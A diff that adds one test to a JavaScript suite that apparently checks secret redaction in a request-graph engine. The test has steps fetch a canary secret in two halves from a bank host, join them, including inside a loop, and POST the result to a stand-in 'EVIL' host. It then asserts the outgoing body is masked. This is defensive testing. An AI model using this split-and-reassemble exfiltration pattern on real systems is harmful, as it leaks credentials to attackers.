@@ -412,6 +412,24 @@ describe('an answer that repeats the secret', () => {
     },
   );
 
+  it('[S24] is hidden where an output puts it together from its halves, in a loop too', async () => {
+    const halves = { left: CANARY.slice(0, 9), right: CANARY.slice(9) };
+    const joined = { joined: '{{response.body.left}}{{response.body.right}}' };
+    const bankStep = { ...step('a', { url: `${BANK}/`, auth: slot }), output: joined };
+    const { leaks, strangers } = await attempt({
+      graph: {
+        steps: [
+          bankStep,
+          { ...bankStep, id: 'b', forEach: { items: [1] } },
+          step('c', post(`${EVIL}/`, ['{{a.joined}}', '{{b[0].joined}}'])),
+        ],
+      },
+      bank: () => json(halves),
+    });
+    expect(strangers.map(({ request }) => request.body)).toEqual(['["••••","••••"]']);
+    expect(leaks).toBe(false);
+  });
+
   it('[S24] leads to no other host where the next page is', async () => {
     let page = 0;
     const { strangers, leaks } = await attempt({
